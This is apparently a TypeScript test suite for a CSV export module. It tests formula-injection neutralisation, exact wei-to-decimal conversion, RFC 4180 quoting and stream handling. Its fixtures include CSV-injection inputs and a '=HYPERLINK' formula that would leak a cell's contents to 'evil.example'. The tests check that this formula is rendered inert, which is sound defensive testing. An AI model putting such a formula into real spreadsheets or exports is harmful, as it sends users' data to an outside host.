import { parse } from "csv-parse/sync";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvCell, isoToSheetDateTime, neutraliseFormula, weiToUsd1 } from "./cells";
import { csvExportStream, csvRecordBytes, csvRecords } from "./csv";
import { fixtureTable, FIXTURE_ROWS, HYPERLINK, readAll } from "./testing/fixture-table";

const ID = "EX-7K2M-9QH4-TZ8D";

describe("neutraliseFormula (OWASP CSV injection)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["  =1+1", "'  =1+1"],
    ["\u00a0-2", "'\u00a0-2"],
    ["\uff1d1+1", "'\uff1d1+1"],
    ["a=1", "a=1"],
    ["Gulf Exchange", "Gulf Exchange"],
    ["", ""],
    ["'=already", "'=already"],
  ])("%j → %j", (input, out) => {
    expect(neutraliseFormula(input)).toBe(out);
  });
});

describe("weiToUsd1", () => {
  it.each([
    ["0", "0"],
    ["1", "0.000000000000000001"],
    ["1500000000000000000000", "1500"],
    ["1234500000000000000123", "1234.500000000000000123"],
    ["-250000000000000000", "-0.25"],
    ["000", "0"],
    ["-0", "0"],
    ["-000", "0"],
    ["1000000000000000000", "1"],
    ["10", "0.00000000000000001"],
    ["0001000000000000000001", "1.000000000000000001"],
    [
      "115792089237316195423570985008687907853269984665640564039457584007913129639935",
      "115792089237316195423570985008687907853269984665640564039457.584007913129639935",
    ],
  ])("%s wei → %s", (wei, usd1) => {
    expect(weiToUsd1(wei)).toBe(usd1);
  });

  it("agrees with BigInt division on random amounts", () => {
    let seed = 7;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31);
    for (let i = 0; i < 2_000; i++) {
      const digits = String(next()) + String(next()).slice(0, next() % 12);
      const wei = (next() % 5 === 0 ? "-" : "") + digits;
      const v = BigInt(wei);
      const abs = v < 0n ? -v : v;
      const frac = (abs % 10n ** 18n).toString().padStart(18, "0").replace(/0+$/, "");
      const text = `${abs / 10n ** 18n}${frac ? `.${frac}` : ""}`;
      expect(weiToUsd1(wei)).toBe(v < 0n ? `-${text}` : text);
    }
  });

  it("refuses anything that is not an integer", () => {
    expect(() => weiToUsd1("1.5")).toThrow(RangeError);
    expect(() => weiToUsd1("1e18")).toThrow(RangeError);
    expect(() => csvCell("wei", "=1+1")).toThrow(RangeError);
    expect(() => csvCell("int", "-1+2")).toThrow(RangeError);
  });

  it("formats datetimes for spreadsheets, keeping fractions only when present", () => {
    expect(isoToSheetDateTime("2025-03-01T12:00:05.000000Z")).toBe("2025-03-01 12:00:05");
    expect(isoToSheetDateTime("2025-03-01T12:00:05.250000Z")).toBe("2025-03-01 12:00:05.25");
  });
});

describe("csvExportStream", () => {
  it("writes the exact RFC 4180 file: BOM, CRLF, quoting, export id first, exact decimals", async () => {
    const { stream, rowCount } = csvExportStream(fixtureTable(), { exportId: ID });
    const text = (await readAll(stream)).toString("utf8");
    expect(rowCount()).toBe(FIXTURE_ROWS.length);
    expect(text).toBe(
      "\uFEFFexport_id,label,amount_wei,amount_usd1,at_utc,n,ok\r\n" +
        `${ID},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",1500000000000000000002,1500.000000000000000002,2025-03-01 12:00:05,1,true\r\n` +
        `${ID},"Gulf, ""Crescent"" Exchange",-250000000000000000,-0.25,2025-03-01 23:59:59,2,false\r\n` +
        `${ID},"two\r\nlines",,,2025-03-02 00:00:00.25,9007199254740993,false\r\n` +
        `${ID},'  @SUM(A1:A9),0,0,2025-03-02 01:00:00,4,true\r\n` +
        `${ID},کراچی Exchange,7,0.000000000000000007,2025-03-02 02:00:00,5,true\r\n`,
    );
  });

  it("a =HYPERLINK label comes out inert: a CSV reader gets text starting with a quote", async () => {
    const { stream } = csvExportStream(fixtureTable(), { exportId: ID, bom: false });
    const records = parse(await readAll(stream), { columns: true }) as Record<string, string>[];
    expect(records[0]?.label).toBe(`'${HYPERLINK}`);
    for (const r of records) expect(r.label).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.map((r) => r.export_id)).toEqual(FIXTURE_ROWS.map(() => ID));
  });

  it("stops reading when the reader goes away", async () => {
    let batchesRead = 0;
    async function* endless() {
      for (;;) {
        batchesRead++;
        yield FIXTURE_ROWS;
        await new Promise((r) => setImmediate(r));
      }
    }
    const { stream } = csvExportStream({ ...fixtureTable(), rows: endless() }, { exportId: ID });
    for await (const _chunk of stream) break; // destroys the stream
    await new Promise((r) => setTimeout(r, 20));
    const seen = batchesRead;
    await new Promise((r) => setTimeout(r, 20));
    expect(batchesRead).toBe(seen);
  });

  it("fails the stream when the source fails", async () => {
    async function* failing() {
      yield FIXTURE_ROWS;
      throw new Error("database went away");
    }
    const { stream } = csvExportStream({ ...fixtureTable(), rows: failing() }, { exportId: ID });
    await expect(readAll(stream)).rejects.toThrow("database went away");
  });
});

describe("csvRecords: the same bytes as Papa Parse's unparse (RFC 4180, CRLF)", () => {
  const papa = (records: string[][]) =>
    Papa.unparse(records, { newline: "\r\n", header: false, quotes: false }) + "\r\n";
  const tricky = [
    "",
    "plain",
    "a,b",
    'say "hi"',
    '"',
    "line\nbreak",
    "cr\rhere",
    "\r\n",
    " leading",
    "trailing ",
    " ",
    "in side",
    "\ufeffbom",
    "tab\tinside",
    "'=1+1",
    "Δ ü 中文 🙂",
    ",",
    '""',
  ];

  it("on every tricky field, alone and in records", () => {
    for (const t of tricky) expect(csvRecords([[t]]), JSON.stringify(t)).toBe(papa([[t]]));
    expect(csvRecords([tricky, [...tricky].reverse()])).toBe(papa([tricky, [...tricky].reverse()]));
  });

  it("on 2,000 random records drawn from those fields and random characters", () => {
    let seed = 42;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31);
    const alphabet = ' a,"\r\n\ufeffz=-\t';
    const records: string[][] = [];
    for (let r = 0; r < 2_000; r++) {
      const record: string[] = [];
      const width = 1 + (next() % 6);
      for (let c = 0; c < width; c++) {
        if (next() % 2 === 0) record.push(tricky[next() % tricky.length]!);
        else {
          let text = "";
          for (let k = next() % 8; k > 0; k--) text += alphabet[next() % alphabet.length];
          record.push(text);
        }
      }
      records.push(record);
    }
    expect(csvRecords(records)).toBe(papa(records));
  });

  it("csvRecordBytes writes the same text as UTF-8, growing past its first estimate", () => {
    expect(
      csvRecordBytes([tricky, [...tricky].reverse()]).equals(
        Buffer.from(papa([tricky, [...tricky].reverse()])),
      ),
    ).toBe(true);
    expect(csvRecordBytes([]).length).toBe(0);
    // One record far longer than the 1 KiB first guess, in three-byte characters, then short ones.
    const wide = ["中".repeat(5_000), "x"];
    const records = [wide, ["a", "b"], ["🙂", '"q"']];
    const bytes = csvRecordBytes(records);
    expect(bytes.equals(Buffer.from(papa(records), "utf8"))).toBe(true);
    expect(bytes.length).toBe(Buffer.byteLength(papa(records)));
  });
});
